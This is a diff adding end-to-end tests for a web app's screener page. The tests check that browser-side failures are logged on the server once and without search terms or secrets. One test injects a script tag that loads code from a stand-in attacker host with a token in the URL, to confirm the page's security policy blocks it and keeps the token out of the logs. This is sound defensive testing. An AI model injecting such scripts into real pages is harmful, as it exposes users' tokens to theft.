@@ -1,0 +1,65 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { demoIndexes } from '../support/demo-indexes.ts';
+import { failWith, serverText } from '../support/requests.ts';
+import { startSite, type RunningSite } from '../support/running-site.ts';
+import { visit } from '../support/visits.ts';
+
+let site: RunningSite;
+beforeAll(async () => {
+  site = await startSite();
+});
+afterAll(() => site.stop());
+
+/** Lines of the server's log that tell of failures in browsers. */
+const told = () =>
+  site
+    .output()
+    .split('\n')
+    .filter((line) => line.includes('in a browser'))
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+
+test('NV-05 what fails in a browser is in the log of the server, once, without what was searched for', async () => {
+  const page = await visit('/indexes/screener?filterPattern=secret', {
+    baseURL: site.url,
+    allowedErrors: /status of 500|Refused|violates/,
+  });
+  await page.locator('[data-connection]').waitFor({ state: 'attached' });
+  await failWith(page, /\/api\/securities\/suggestions/, 500);
+  const field = page.locator('header input[name=filterPattern]').first();
+  for (const term of ['world', 'europe']) {
+    await Promise.all([page.waitForResponse(/suggestions/), field.fill(term)]);
+  }
+  await expect.poll(() => told().length).toBe(1);
+  expect(told()[0]).toMatchObject({
+    part: 'search',
+    route: '/indexes/screener',
+    message: serverText,
+    build: expect.stringMatching(/^\/assets\/.+\.js$/),
+  });
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/a.js?token=secret';
+    document.head.append(script);
+  });
+  await expect.poll(() => told().length).toBe(2);
+  expect(told()[1]).toMatchObject({ blocked: 'https://evil.example' });
+  expect(JSON.stringify(told())).not.toContain('token');
+});
+
+test('NV-05 a page that is left while it follows a level is no failure', async () => {
+  const page = await visit('/', { baseURL: site.url, allowedErrors: /status of 500/ });
+  const before = told().length;
+  for (const leave of [() => page.reload(), () => page.goto('/documents'), () => page.goBack()]) {
+    const followed = page.waitForResponse(/market-data\/changes/);
+    await page.goto(`/indexes/details/${demoIndexes.full.fundId}`);
+    await followed;
+    await leave();
+  }
+  // What is told is told in order: nothing came before what fails here.
+  await page.goto('/indexes/screener');
+  await page.locator('[data-connection]').waitFor({ state: 'attached' });
+  await failWith(page, /\/api\/securities\/suggestions/, 500);
+  await page.locator('header input[name=filterPattern]').first().fill('world');
+  await expect.poll(() => told().slice(before).at(0)?.['part']).toBeDefined();
+  expect(told().slice(before)).toMatchObject([{ part: 'search' }]);
+});
